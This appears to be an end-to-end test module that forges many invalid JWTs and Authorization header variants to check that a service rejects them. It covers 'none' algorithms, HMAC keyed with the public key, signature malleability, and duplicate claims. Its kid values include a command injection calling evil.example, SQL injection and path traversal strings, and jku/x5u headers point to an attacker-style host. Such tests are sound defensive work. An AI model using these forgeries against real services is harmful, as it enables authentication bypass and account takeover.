"""Credentials that nobody may take: each form has a name, and exactly one thing is wrong with it."""

import base64
import gzip
import hmac
import json
import time
from collections.abc import Iterator
from functools import cache
from uuid import UUID, uuid4

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, ed448, padding, rsa
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.e2e.forge import Forge, Form, Sign, b64, compact, unb64

EVIL = "https://evil.example/jwks.json"
# The order of the group of Ed25519: added to a signature's second half, it gives another one of the same content.
ORDER = 2**252 + 27742317777372353535851937790883648493
FOREIGN = Ed25519PrivateKey.generate()
# What JSON allows, or Python's reader of it, where a number belongs.
NOT_NUMBERS = (
    *('"4000000000"', "null", "true", "[4000000000]", "{}"),
    *("NaN", "Infinity", "-Infinity", "1e999", "1" + "0" * 400),
)
NOT_TEXTS = ("null", "7", "true", "{}", '""')


def forms(forge: Forge) -> list[Form]:
    """Every form but those that need more than a forge."""
    found = [Form(name, (("authorization", f"Bearer {token}"),)) for name, token in tokens(forge)]
    found += schemes(forge.token())
    assert len({form.name for form in found}) == len(found)
    return found


def tokens(forge: Forge) -> Iterator[tuple[str, str]]:
    for make in (algorithms, keys, parameters, claims, doubles, signatures, contents, shapes):
        yield from make(forge)


def algorithms(forge: Forge) -> Iterator[tuple[str, str]]:
    for name in ("none", "None", "NONE", "nOnE", "", "HS256", "RS256", "ES256", "eddsa", "EDDSA", forge.alias, "Ed448"):
        unsigned = forge.token({"alg": name}, sign=lambda _: b"")
        yield f"alg {name!r} without signature", unsigned
        yield f"alg {name!r} with the right signature", forge.token({"alg": name})
    for odd in (0, True, [forge.header["alg"]], {"name": "none"}):
        yield f"alg {odd!r}", forge.token({"alg": odd})
    yield "alg missing", forge.token({"alg": None})
    for kind, secret in _public_forms(forge).items():
        for name in ("HS256", "HS384", "HS512"):
            yield f"{name} keyed with {kind}", forge.token({"alg": name}, sign=_mac(name, secret))
    for name, sign in _self_made().items():
        yield f"{name} self-made under the published name", forge.token({"alg": name}, sign=sign)
        yield f"the right alg, but signed with {name}", forge.token(sign=sign)


def _mac(name: str, secret: bytes) -> Sign:
    return lambda data: hmac.new(secret, data, name.replace("HS", "sha")).digest()


def _public_forms(forge: Forge) -> dict[str, bytes]:
    public = forge.key.public_key()
    raw = public.public_bytes_raw()
    jwk = {"kty": "OKP", "crv": "Ed25519", "x": b64(raw)}
    return {
        "the public key as PEM": public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "the public key as DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "the public key's octets": raw,
        "nothing": b"",
        "the public key as base64": b64(raw).encode(),
        "the public key as JWK": json.dumps(jwk).encode(),
    }


@cache
def _self_made() -> dict[str, Sign]:
    big = rsa.generate_private_key(65537, 2048)
    pss = padding.PSS(padding.MGF1(hashes.SHA256()), 32)
    return {
        "RS256": lambda data: big.sign(data, padding.PKCS1v15(), hashes.SHA256()),
        "PS256": lambda data: big.sign(data, pss, hashes.SHA256()),
        "ES256": _ecdsa(ec.SECP256R1(), hashes.SHA256(), 32),
        "ES384": _ecdsa(ec.SECP384R1(), hashes.SHA384(), 48),
        "ES512": _ecdsa(ec.SECP521R1(), hashes.SHA512(), 66),
        "ES256K": _ecdsa(ec.SECP256K1(), hashes.SHA256(), 32),
        "Ed448": ed448.Ed448PrivateKey.generate().sign,
        "EdDSA": FOREIGN.sign,
        "Ed25519": FOREIGN.sign,
    }


def _ecdsa(curve: ec.EllipticCurve, digest: hashes.HashAlgorithm, size: int) -> Sign:
    key = ec.generate_private_key(curve)

    def sign(data: bytes) -> bytes:
        pair = decode_dss_signature(key.sign(data, ec.ECDSA(digest)))
        return b"".join(one.to_bytes(size, "big") for one in pair)

    return sign


def keys(forge: Forge) -> Iterator[tuple[str, str]]:
    kid = forge.header["kid"]
    strange = {
        "missing": None,
        "empty": "",
        "a number": 7,
        "a list": [kid],
        "an object": {"kid": kid},
        "no longer published": str(uuid4()),
        "a path": "../../../../dev/null",
        "SQL": "' UNION SELECT 'AA' -- ",
        "a URL": EVIL,
        "a command": "$(curl evil.example)",
        "with NUL": f"{kid}\0",
        "with a space": f" {kid}",
        "upper case": kid.upper(),
        "very long": "k" * 9000,
        "a wildcard": "*",
        "another service": "platform",
    }
    for name, value in strange.items():
        for whose, sign in (("the right key", forge.key.sign), ("a foreign key", FOREIGN.sign)):
            if value != kid:
                yield f"kid {name}, signed with {whose}", forge.token({"kid": value}, sign=sign)
    own = {"kty": "OKP", "crv": "Ed25519", "x": b64(FOREIGN.public_key().public_bytes_raw()), "kid": kid}
    brought = {"jwk": own, "jku": EVIL, "x5u": EVIL, "x5c": [b64(b"certificate")], "x5t": "AAAA", "x5t#S256": "AAAA"}
    for name, value in brought.items():
        yield f"{name} points to an own key", forge.token({name: value}, sign=FOREIGN.sign)
        yield f"{name} points to an own key, kid too", forge.token({name: value, "kid": "own"}, sign=FOREIGN.sign)
        yield f"{name} in a token that is right", forge.token({name: value})
    header = json.dumps(forge.header)[1:]
    claims = json.dumps(forge.claims).encode()
    yield "kid twice, the first foreign", compact(f'{{"kid": "own", {header}'.encode(), claims, forge.key.sign)
    yield "kid twice, the last foreign", compact(f'{{{header[:-1]}, "kid": "own"}}'.encode(), claims, forge.key.sign)
    yield "alg twice, the first none", compact(f'{{"alg": "none", {header}'.encode(), claims, forge.key.sign)
    yield "typ twice, the first JWT", compact(f'{{"typ": "JWT", {header}'.encode(), claims, forge.key.sign)


def parameters(forge: Forge) -> Iterator[tuple[str, str]]:
    other = {"at+jwt": "service+jwt", "service+jwt": "at+jwt"}[forge.header["typ"]]
    typ = forge.header["typ"]
    for value in (None, "JWT", "jwt", other, "", f"application/{typ}", typ.upper(), f"{typ} ", [typ], 7, "id+jwt"):
        yield f"typ {value!r}", forge.token({"typ": value})
    for crit in (["exp"], ["own"], ["b64"], [], "exp", 7):
        yield f"crit {crit!r}", forge.token({"crit": crit})
        yield f"crit {crit!r} with what it names", forge.token({"crit": crit, "own": 1, "exp": 1})
    signed = f"{b64(json.dumps(forge.header | {'b64': False, 'crit': ['b64']}).encode())}."
    plain = json.dumps(forge.claims)
    yield "b64 false", f"{signed}{b64(plain.encode())}.{b64(forge.key.sign((signed + plain).encode()))}"
    for name, value in (("b64", False), ("zip", "DEF"), ("cty", "JWT"), ("enc", "A256GCM"), ("nonce", "1"), ("own", 1)):
        yield f"{name} {value!r} in the header", forge.token({name: value})


def claims(forge: Forge) -> Iterator[tuple[str, str]]:
    now = int(time.time())
    for name in {"iss", "aud", "sub", "tid", "sid"} & forge.claims.keys():
        right = forge.claims[name]
        yield f"{name} missing", forge.token(claims={name: None})
        for text in (*NOT_TEXTS, json.dumps([right]), json.dumps(f" {right}"), json.dumps(f"{right}\0")):
            shown = text.replace(right, "the right one")
            yield f"{name} {shown}", forge.with_text(name, text)
        yield f"{name} of nobody", forge.token(claims={name: "nobody"})
    for name in ("iss", "aud"):
        right = forge.claims[name]
        for value in (f"{right}/", right.upper(), f"{right}.evil.example", right[:-1]):
            yield f"{name} {value}", forge.token(claims={name: value})
    yield "aud a list with others", forge.token(claims={"aud": [forge.claims["aud"], "elsewhere"]})
    yield "exp missing", forge.token(claims={"exp": None})
    for moment in (0, 1, -1, now - 60, now - 3600, -(2**63), now + 86_400 * 365, 2**63, now + 300.5):
        yield f"exp {moment - now if moment > 1 else moment} from now", forge.token(claims={"exp": moment})
    for text in NOT_NUMBERS:
        yield f"exp {text[:12]}", forge.with_text("exp", text)
    if "sub" in forge.claims:
        yield from _people(forge, now)


def _people(forge: Forge, now: int) -> Iterator[tuple[str, str]]:
    for name in ("nbf", "iat"):
        for moment in (now + 3600, 2**63):
            yield f"{name} {moment - now} from now", forge.token(claims={name: moment})
        for text in NOT_NUMBERS:
            yield f"{name} {text[:12]}", forge.with_text(name, text)
    yield "iat of 1969", forge.token(claims={"iat": -1})
    for name in ("sub", "tid", "sid"):
        right = forge.claims[name]
        for form in (right.upper(), right.replace("-", ""), f"{{{right}}}", f"urn:uuid:{right}", f"{right}'--"):
            yield f"{name} spelled {form.replace(right, 'it')}"[:40], forge.token(claims={name: form})
    yield "sub of somebody who is not there", forge.token(claims={"sub": str(uuid4())})
    yield "tid of a tenant that is not there", forge.token(claims={"tid": str(uuid4())})
    yield "sub of another tenant's user", forge.token(claims={"sub": forge.other["sub"]})
    yield "tid of another tenant", forge.token(claims={"tid": forge.other["tid"]})
    yield "tid of the platform", forge.token(claims={"tid": str(UUID(int=0))})
    yield "everything nil", forge.token(claims=dict.fromkeys(("sub", "tid", "sid"), str(UUID(int=0))))


def doubles(forge: Forge) -> Iterator[tuple[str, str]]:
    for name, right in forge.claims.items():
        for kind, wrong in (("somebody else's", forge.other[name]), ("'x'", "x"), ("0", 0)):
            if wrong != right:
                yield f"{name} twice, the first {kind}", forge.twice(name, wrong, right)
                yield f"{name} twice, the last {kind}", forge.twice(name, right, wrong)
        yield f"{name} twice, both right", forge.twice(name, right, right)


def signatures(forge: Forge) -> Iterator[tuple[str, str]]:
    one = forge.token()
    signed, _, text = one.rpartition(".")
    right = unb64(text)
    half, scalar = right[:32], int.from_bytes(right[32:], "little")
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    changed = {
        "flipped in the first bit": b64(bytes([right[0] ^ 1]) + right[1:]),
        "flipped in the last bit": b64(right[:-1] + bytes([right[-1] ^ 0x80])),
        "all flipped": b64(bytes(octet ^ 255 for octet in right)),
        "one octet short": b64(right[:-1]),
        "one octet long": b64(right + b"\0"),
        "half": b64(half),
        "empty": "",
        "of zeros": b64(bytes(64)),
        "of the neutral element": b64(b"\1" + bytes(63)),
        "twice": text + text,
        "reversed": b64(right[::-1]),
        "with the group's order added": b64(half + (scalar + ORDER).to_bytes(32, "little")),
        "of other content": b64(forge.key.sign(b"other content")),
        "of the payload alone": b64(forge.key.sign(signed.split(".")[1].encode())),
        "of another token": compact(forge.header, forge.other, forge.key.sign).rpartition(".")[2],
        "as hexadecimal": right.hex(),
        "padded": f"{text}==",
        "with the unused bits set": text[:-1] + alphabet[alphabet.index(text[-1]) | 1],
        "in the standard alphabet": base64.b64encode(b"\xfb\xff" + right[2:]).decode(),
        "with a space inside": f"{text[:9]} {text[9:]}",
        "with a tab inside": f"{text[:9]}\t{text[9:]}",
        "with a line break inside": f"{text[:9]}\n{text[9:]}",
        "with a continued line": f"{text}\r\n  x",
        "with NUL at the end": f"{text}\0",
        "with an asterisk": f"{text[:9]}*{text[9:]}",
        "percent-encoded": f"%{ord(text[0]):02x}{text[1:]}",
        "with a slash at the end": f"{text}/",
    }
    for name, value in changed.items():
        yield f"signature {name}", f"{signed}.{value}"


def contents(forge: Forge) -> Iterator[tuple[str, str]]:
    header, _, signature = forge.token().split(".")
    for name in forge.claims:
        swapped = b64(json.dumps(forge.claims | {name: forge.other[name] if name in ("sub", "tid") else 2}).encode())
        yield f"{name} changed under the old signature", f"{header}.{swapped}.{signature}"
    everything = b64(json.dumps(forge.other).encode())
    yield "somebody else's payload under the own signature", f"{header}.{everything}.{signature}"
    deep = {depth: b"[" * depth + b"]" * depth for depth in (200, 12_000)}
    odd = {
        "nothing": b"",
        "an empty object": b"{}",
        "null": b"null",
        "a list": b"[]",
        "a number": b"1",
        "a text": b'"text"',
        "no JSON": b"not json",
        "no UTF-8": b'{"sub": "\xff\xfe"}',
        "UTF-16": json.dumps(forge.claims).encode("utf-16"),
        "with a byte order mark": b"\xef\xbb\xbf" + json.dumps(forge.claims).encode(),
        "compressed": gzip.compress(json.dumps(forge.claims).encode()),
        "two objects": json.dumps(forge.claims).encode() * 2,
        "a list with the right one": json.dumps([forge.claims]).encode(),
        "another token": forge.token().encode(),
        "with a comment": b"/**/" + json.dumps(forge.claims).encode(),
        "with single quotes": str(forge.claims).encode(),
        "with a lone surrogate": json.dumps(forge.claims).encode()[:-1] + b', "iss": "\\ud800"}',
        "nested 200 deep": deep[200],
        "nested 12,000 deep": deep[12_000],
    }
    for name, data in odd.items():
        yield f"payload {name}", compact(forge.header, data, forge.key.sign)
        if "right one" not in name and name not in ("another token", "UTF-16", "with a comment"):
            yield f"header {name}", compact(data.replace(*_as_header(forge)), forge.claims, forge.key.sign)


def _as_header(forge: Forge) -> tuple[bytes, bytes]:
    return json.dumps(forge.claims).encode()[:-1], json.dumps(forge.header).encode()[:-1]


def shapes(forge: Forge) -> Iterator[tuple[str, str]]:
    one = forge.token()
    header, payload, signature = one.split(".")
    sealed = b64(json.dumps({"alg": "dir", "enc": "A256GCM", "kid": forge.header["kid"]}).encode())
    whole = {"payload": payload, "protected": header, "signature": signature}
    several = {"payload": payload, "signatures": [{"protected": header, "signature": signature}]}
    spelled = {
        "header and payload only": f"{header}.{payload}",
        "a header only": header,
        "a signature only": f"..{signature}",
        "four parts": f"{one}.{signature}",
        "a dot in front": f".{one}",
        "a dot at the end": f"{one}.",
        "two dots in between": one.replace(".", ".."),
        "nothing but dots": "." * 2000,
        "empty header": f".{payload}.{signature}",
        "empty payload": f"{header}..{signature}",
        "payload and signature swapped": f"{header}.{signature}.{payload}",
        "an encrypted token": f"{sealed}..{b64(bytes(12))}.{payload}.{b64(bytes(16))}",
        "an encrypted token with a key": f"{sealed}.{signature}.{b64(bytes(12))}.{payload}.{b64(bytes(16))}",
        "JSON serialization, flattened": json.dumps(whole),
        "JSON serialization, general": json.dumps(several),
        "padded parts": ".".join(f"{part}==" for part in one.split(".")),
        "a padded payload": f"{header}.{payload}=.{signature}",
        "a line break after the header": f"{header}\n.{payload}.{signature}",
        "blanks around the dots": one.replace(".", " . "),
        "other dots": one.replace(".", "\u3002"),
        "a zero-width space in front": f"\u200b{one}",
        "a Latin letter with an accent": f"{one}\u00e9",
        "upper case": one.upper(),
        "encoded once more": b64(one.encode()),
        "dots percent-encoded": one.replace(".", "%2E"),
        "text that is no token": "x",
        "a UUID": str(uuid4()),
        "null": "null",
        "undefined": "undefined",
        "30,000 characters": f"{header}.{'A' * 30_000}.{signature}",
        "70,000 characters": f"{header}.{'A' * 70_000}.{signature}",
    }
    yield from spelled.items()


def schemes(one: str) -> Iterator[Form]:
    """A token that is right, where it does not belong."""
    password = base64.b64encode(f"user:{one}".encode()).decode()
    values = {
        "no scheme": one,
        "the scheme alone": "Bearer",
        "the scheme and a blank": "Bearer ",
        "Basic": f"Basic {password}",
        "Basic with a token": f"Basic {one}",
        "a colon": f"Bearer: {one}",
        "an equals sign": f"Bearer={one}",
        "no blank": f"Bearer{one}",
        "a tab": f"Bearer\t{one}",
        "two blanks": f"Bearer  {one}",
        "a comma": f"Bearer, {one}",
        "the scheme twice": f"Bearer Bearer {one}",
        "a named token": f'Bearer token="{one}"',
        "quotes": f'Bearer "{one}"',
        "angle brackets": f"Bearer <{one}>",
        "a semicolon after it": f"Bearer {one};",
        "a comma after it": f"Bearer {one},",
        "two tokens": f"Bearer {one} {one}",
        "two tokens with a comma": f"Bearer {one},{one}",
        "two credentials with a comma": f"Bearer {one}, Bearer {one}",
        "another credential in front": f"Basic {password}, Bearer {one}",
        "another credential behind": f"Bearer {one}, Basic {password}",
        "the name in the value": f"Authorization: Bearer {one}",
        "a wide letter": f"\uff22earer {one}",
        "something in front": f"x Bearer {one}",
    }
    others = ("Token", "JWT", "DPoP", "OAuth", "Digest", "Negotiate", "MAC", "Bear", "Bearers", "access_token")
    values |= {f"scheme {name}": f"{name} {one}" for name in others}
    for name, value in values.items():
        yield Form(f"credentials with {name}", (("authorization", value),))
    named = {
        "x-authorization": f"Bearer {one}",
        "proxy-authorization": f"Bearer {one}",
        "x-forwarded-authorization": f"Bearer {one}",
        "x-original-authorization": f"Bearer {one}",
        "x-access-token": one,
        "x-auth-token": one,
        "x-jwt-assertion": one,
        "x-id-token": one,
        "access-token": one,
        "cookie": f"access_token={one}; authorization=Bearer {one}",
        "sec-websocket-protocol": f"bearer, {one}",
        "www-authenticate": f"Bearer {one}",
    }
    for name, value in named.items():
        yield Form(f"a token in {name}", ((name, value),))
    for name in ("access_token", "token", "jwt", "authorization", "bearer_token"):
        yield Form(f"a token in the query as {name}", (), query=f"{name}={one}")
    right, wrong = f"Bearer {one}", f"Bearer {one[:-9]}AAAAAAAAA"
    yield Form("the right credentials, then wrong ones", (("authorization", right), ("authorization", wrong)))
    yield Form("no credentials", ())


def besides(mine: Forge, user_id: str, refresh_token: str, ended: str, service_tokens: list[str]) -> Iterator[Form]:
    """Forms of what is no access token, or none any more; of names without a token."""
    yield Form("a refresh token", (("authorization", f"Bearer {refresh_token}"),))
    yield Form("the token of a session that has ended", (("authorization", f"Bearer {ended}"),))
    for number, token in enumerate(service_tokens):
        yield Form(f"the token of a service, {number}", (("authorization", f"Bearer {token}"),))
    ids = (("x-user-id", user_id), ("x-tenant-id", mine.claims["tid"]))
    yield Form("names in headers and no token", ids)
    forged = ("authorization", f"Bearer {mine.token(sign=FOREIGN.sign)}")
    yield Form("names in headers and a forged token", (*ids, forged))
    gateway = ("x-envoy-external-address", "127.0.0.1")
    yield Form("the gateway's word and no token", (*ids, gateway, ("x-gateway-secret", "guess")))
